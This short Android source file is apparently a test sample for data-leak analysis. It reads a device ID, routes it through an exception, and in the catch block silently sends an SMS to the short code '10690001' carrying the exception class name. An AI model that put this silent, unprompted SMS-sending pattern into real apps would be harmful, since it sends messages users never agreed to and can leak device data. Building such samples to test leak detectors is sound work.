package cn.shanhai.exceptionmessage;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    try {
      check(Device.id(this));
    } catch (IllegalStateException e) {
      SmsManager.getDefault().sendTextMessage("10690001", null, e.getClass().getName(), null, null);
    }
  }

  private static void check(String id) {
    if (!id.isEmpty()) {
      throw new IllegalStateException("id " + id);
    }
  }
}
